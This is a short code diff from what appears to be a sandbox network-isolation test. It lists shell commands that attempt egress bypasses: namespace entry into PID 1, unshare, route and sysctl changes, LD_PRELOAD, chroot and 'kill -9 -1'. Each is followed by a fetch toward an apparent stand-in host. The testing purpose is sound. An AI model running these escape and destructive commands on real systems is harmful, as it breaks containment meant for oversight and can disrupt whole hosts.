@@ -33,7 +33,7 @@ RULESET = {
     "link": f"ip link add veth0 type veth peer name veth1; ip link set lo down; ip link set lo up; {GET}", "address": f"ip addr add {EVIL4}/32 dev lo; ip addr flush dev lo; {GET}", "rule": f"ip rule add from all lookup 7; {GET}",
     "tun": f"ip tuntap add tap0 mode tap; {GET}", "sysctl": f"echo 1 >/proc/sys/net/ipv4/ip_forward; echo 0 >/proc/sys/net/ipv4/conf/all/route_localnet; {GET}", "conntrack": f"echo 0 >/proc/sys/net/netfilter/nf_conntrack_max; {GET}",
     "unshare": f"unshare -n sh -c '{GET}'; {GET}", "unshare-user": f"unshare -Urn sh -c 'ip link set lo up; {GET}'; {GET}", "nsenter": f"nsenter -t 1 -n sh -c '{GET}'; {GET}", "netns": f"ip netns add x; ip netns exec x {GET}; {GET}",
-    "netns-host": f"for n in /proc/*/ns/net; do nsenter --net=$n true; done; {GET}", "six": GET6, "preload": f"LD_PRELOAD=/lib/x86_64-linux-gnu/libc.so.6 {GET}", "chroot": f"chroot / sh -c '{GET}'; {GET}", "su": f"su -c '{GET}'; {GET}",
+    "netns-host": f"for n in /proc/*/ns/net; do nsenter --net=$n true; done; {GET}", "six": GET6, "preload": f"LD_PRELOAD=/lib/x86_64-linux-gnu/libc.so.6 {GET}", "chroot": f"chroot / sh -c '{GET}'; {GET}",
     "setsid": f"setsid {GET}", "background": f"({GET} &) ; sleep 0.3", "io-uring": f"python3 -c 'import ctypes; print(ctypes.CDLL(None).syscall(425, 4, 0))'; {GET}", "kill-all": f"kill -9 -1; {GET}",
 }
 CHANGED = [
